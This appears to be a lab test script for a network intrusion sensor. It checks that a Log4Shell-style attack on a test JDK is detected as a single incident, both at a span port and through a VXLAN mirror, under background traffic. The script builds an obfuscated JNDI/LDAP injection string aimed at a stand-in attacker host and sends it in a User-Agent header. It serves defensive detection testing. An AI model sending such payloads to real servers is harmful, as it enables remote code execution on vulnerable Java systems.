#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""span.py SENSOR CLASSES TRAFFIC: a whole attack on a real JDK, seen at a span port and through a VXLAN mirror by two
workers while other traffic passes, is told once and to its end, as one incident, and every frame is in the sum.

The traffic, replayed from a generated capture, is less than the rings hold: on the slowest machine nothing may be lost.
"""
import subprocess
import sys

import lab

LOAD_MB = 20
ENTRY = "ldap://%s:1389/cn=remote,dc=lab" % lab.ATTACKER
SETTINGS = "workers: 2\naf-packet: [{interface: e0, buffer-size: 64mb}]"
STORIES = ("-S", lab.TOP / "rules/incidents.rules")


def attack(sensor, device, capture):
    before = len(sensor.settled())
    load = lab.Load(capture, device)
    lab.request("Mozilla/5.0 ${${lower:j}ndi:%s}" % ENTRY)
    said = load.stop()
    found = sensor.settled()[before:]
    stories = [alert for alert in found if "stages" in lab.facts(alert).get("incident", {})]
    found = [alert for alert in found if alert not in stories]
    lab.once(found, lab.lookup_of(ENTRY, techniques={"has": ["lower"]}), lab.searched("cn=remote,dc=lab"), lab.reference(), lab.FETCHED)
    addresses = {(facts["source"]["ip"], facts["target"]["ip"]) for facts in (alert["alert"] for alert in found)}
    assert addresses == {(lab.ATTACKER, lab.VICTIM)}, "others than attacker and victim: %s" % addresses
    verdicts = [lab.facts(alert)["incident"]["verdict"] for alert in stories]
    assert verdicts == ["vulnerable", "delivered"], "the incident is told as %s\n%s" % (verdicts, lab.listing(found + stories))
    ids = {lab.facts(alert)["incident"]["id"] for alert in found + stories}
    assert len(ids) == 1, "one attack is %d incidents" % len(ids)
    print("through %s: %d alerts amid %s" % (device, len(found), said))


def main():
    program, classes, traffic = sys.argv[1:4]
    lab.enter("curl", "slapd", "slapadd", "openssl")
    lab.need_java()
    capture = lab.WORK / "load.pcap"
    subprocess.run([traffic, str(LOAD_MB), "1", capture], check=True, stdout=subprocess.DEVNULL)
    lab.build_network()
    lab.Peers(classes)

    sensor = lab.Sensor(program, SETTINGS, *STORIES)
    attack(sensor, "sen", capture)
    count = sensor.stop()
    assert not count.get("capture.kernel_drops"), "frames were dropped that the rings had room for"

    lab.mirror_through_vxlan()
    sensor = lab.Sensor(program, SETTINGS, *STORIES)
    attack(sensor, "vx0", capture)
    count = sensor.stop()
    assert count.get("decode.vxlan"), "nothing came through the mirror: the test has tested nothing"


if __name__ == "__main__":
    main()
